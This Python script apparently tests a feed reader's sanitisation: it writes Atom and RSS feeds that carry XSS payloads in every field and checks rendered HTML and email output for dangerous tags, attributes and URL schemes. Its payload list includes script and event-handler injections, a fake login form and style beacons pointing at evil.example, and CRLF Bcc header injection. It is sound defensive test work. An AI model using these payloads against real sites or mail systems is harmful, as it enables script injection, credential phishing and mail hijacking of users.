#!/usr/bin/python3
# SPDX-License-Identifier: ISC
"""A feed that puts hostile text into every field, and a judge of what became of it.

usage: hostile.py feed FILE       writes the feed
       hostile.py feeds DIR [MORE] writes a feed for each text, of that name; says its settings.
                                  MORE: a file of JSON lines with further texts as "html"
       hostile.py judge FILE...   HTML files or letters: one line for each thing that could act
"""
import email
import email.policy
import html.parser
import json
import os
import re
import sys
from xml.sax.saxutils import escape, quoteattr

VECTORS = [
    '<script>alert(1)</script>', '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>",
    '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg><script>alert(1)</script>',
    '<a href="javascript:alert(1)">x</a>', '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="vbscript:x">x</a>',
    '<iframe src="https://evil.example/"></iframe>', '<iframe srcdoc="<script>alert(1)">',
    '<object data="x"></object>', '<embed src="x">', '<form action="https://evil.example/">'
    '<input name=password><button>log in</button></form>', '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">', '<style>*{display:none}</style>',
    '<p style="background:url(https://evil.example/p.gif)">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%">x</p>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    'onerror=alert(1)&gt;">', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea></textarea><script>alert(1)</script></textarea>', '<!--><script>alert(1)</script>-->',
    '<![CDATA[<script>alert(1)</script>', '</td></tr></table><h1>out of the cell</h1>',
    '</body></html><script>alert(1)</script>', '<plaintext>', '<title></title><script>x</script>',
    '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)></video>',
    '<body onload=alert(1)>', '<marquee onstart=alert(1)>x</marquee>',
    '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;',
    '{{leave}} {{{address}}} {{#x}}{{/x}}', '\u202egnp.exe', 'a\r\nBcc: victim@evil.example\r\n\r\nx',
    '=?utf-8?q?=0D=0ABcc:_victim=40evil.example?=', '\u2028From evil\u2029', 'x' * 3000,
]


def feed(path):
    out = ['<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">\n'
           '<title type="html">%s</title><link href="https://hostile.example/"/>\n<id>h</id>'
           '<updated>2026-03-01T00:00:00Z</updated>\n' % escape(escape(VECTORS[1]))]
    for i, v in enumerate(VECTORS):
        text, twice = escape(v), escape(escape(v))
        out.append(
            '<entry><id>%d %s</id><title type="html">T%02d %s</title>\n'
            '<title type="text">T%02d %s</title><link href=%s/>\n'
            '<author><name>%s</name><uri>%s</uri></author><category term=%s label=%s/>\n'
            '<link rel="enclosure" href=%s type=%s title=%s/>\n'
            '<updated>2026-03-01T%02d:%02d:00Z</updated><summary type="html">%s</summary>\n'
            '<content type="html">%s before %s after</content></entry>\n' % (
                i, text, i, twice if i % 2 else text, i, text,
                quoteattr(v if i % 3 == 0 else "https://hostile.example/%d?x=%s" % (i, v)),
                text, text, quoteattr(v), quoteattr(v), quoteattr("https://hostile.example/" + v),
                quoteattr(v), quoteattr(v), i // 60, i % 60, text, text, text))
    out.append("</feed>\n")
    with open(path, "w", encoding="utf-8") as f:
        f.write("".join(out).replace("\r", "&#13;"))


def feeds(where, more):
    """RSS feeds whose own names are hostile, as those of their writers and subjects are."""
    texts = list(VECTORS)
    if more:
        with open(more, encoding="utf-8") as f:
            texts += [json.loads(line)["html"] for line in f]
    for i, v in enumerate(texts):
        # What XML cannot carry at all a feed cannot say.
        v = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]", "", v)
        name = os.path.join(where, "%05d.rss" % i)
        text, twice = escape(v), escape(escape(v))
        with open(name, "w", encoding="utf-8", newline="") as f:
            f.write((
                '<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" '
                'xmlns:media="http://search.yahoo.com/mrss/"><channel><title>S%05d %s</title>'
                '<link>https://h%d.example/%s</link><description>%s</description>'
                '<managingEditor>%s</managingEditor><category>%s</category>'
                '<image><url>https://h%d.example/%s</url><title>%s</title></image>'
                '<item><title>T%05d %s</title><link>https://h%d.example/1?%s</link>'
                '<guid isPermaLink="false">%s</guid><dc:creator>%s</dc:creator>'
                '<author>%s</author><category domain=%s>%s</category><dc:subject>%s</dc:subject>'
                '<source url=%s>%s</source><comments>%s</comments>'
                '<enclosure url=%s type=%s length=%s/><media:title>%s</media:title>'
                '<media:thumbnail url=%s/><pubDate>Sun, 01 Mar 2026 10:00:00 GMT</pubDate>'
                '<description>before after</description></item></channel></rss>' % (
                    i, twice if i % 2 else text, i, text, text, text, text, i, text, text,
                    i, twice if i % 3 else text, i, text, text, text, text, quoteattr(v), text,
                    text, quoteattr(v), text, text, quoteattr("https://h%d.example/%s" % (i, v)),
                    quoteattr(v), quoteattr(v), text, quoteattr(v))).replace("\r", "&#13;"))
        print("[feed f%d]\nurl = file:%s" % (i, name))


ALLOWED = set("""html head meta title style body table thead tbody tfoot tr td th caption col colgroup
    div span p br hr h1 h2 h3 h4 h5 h6 a img ul ol li dl dt dd pre code blockquote q cite em strong
    b i u s small sub sup abbr del ins mark kbd samp var figure figcaption ruby rt rp bdi bdo time
    wbr center address section article header footer main nav dfn tt big strike font details
    summary picture""".split())


class Judge(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found, self.styles, self.in_style = [], 0, False

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED:
            self.found.append("element " + tag)
        self.in_style = tag == "style"
        self.styles += self.in_style
        for name, value in attrs:
            value = value or ""
            # As a browser reads it: blanks and controls inside do not count.
            scheme = re.match("[a-z][a-z0-9+.-]*(?=:)", "".join(
                c for c in value.lower() if c > " "))
            if name.startswith("on") or name in ("srcdoc", "formaction", "action", "background"):
                self.found.append("attribute %s of %s" % (name, tag))
            if name in ("href", "src", "cite", "longdesc") and scheme and scheme[0] not in (
                    "http", "https", "mailto", "tel", "xmpp", "irc", "ftp", "magnet", "cid", "geo"):
                self.found.append("%s of %s leads to %.40s" % (name, tag, value))
            if name == "style" and any(w in value.lower() for w in (
                    "url(", "expression", "position:fixed", "position: fixed", "@import")):
                self.found.append("style of %s: %.60s" % (tag, value))
            if tag == "meta" and name == "http-equiv" and value.lower() == "refresh":
                self.found.append("meta refresh")
        if tag in ("base", "link"):
            self.found.append("element " + tag)

    def handle_endtag(self, tag):
        self.in_style = False

    def handle_data(self, data):
        if self.in_style and ("evil" in data or "display:none}" in data and "*{" in data):
            self.found.append("a foreign style sheet")


def judge(path):
    with open(path, "rb") as f:
        raw = f.read()
    found = []
    if path.endswith(".eml"):
        msg = email.message_from_bytes(raw, policy=email.policy.default)
        for name in msg.keys():
            if name.lower() in ("bcc", "cc"):
                found.append("header " + name)
        content = [p for p in msg.walk() if p.get_content_type() == "text/html"][0]
        content = content.get_payload(decode=True).decode("utf-8")
    else:
        content = raw.decode("utf-8")
    j = Judge()
    j.feed(content)
    j.close()
    found += j.found
    if j.styles > 1:
        found.append("more than one style sheet")
    return found


if sys.argv[1] == "feed":
    feed(sys.argv[2])
elif sys.argv[1] == "feeds":
    feeds(sys.argv[2], sys.argv[3] if len(sys.argv) > 3 else None)
else:
    bad = 0
    for path in sys.argv[2:]:
        for thing in judge(path):
            bad = 1
            print("%s: %s" % (path, thing))
    sys.exit(bad)
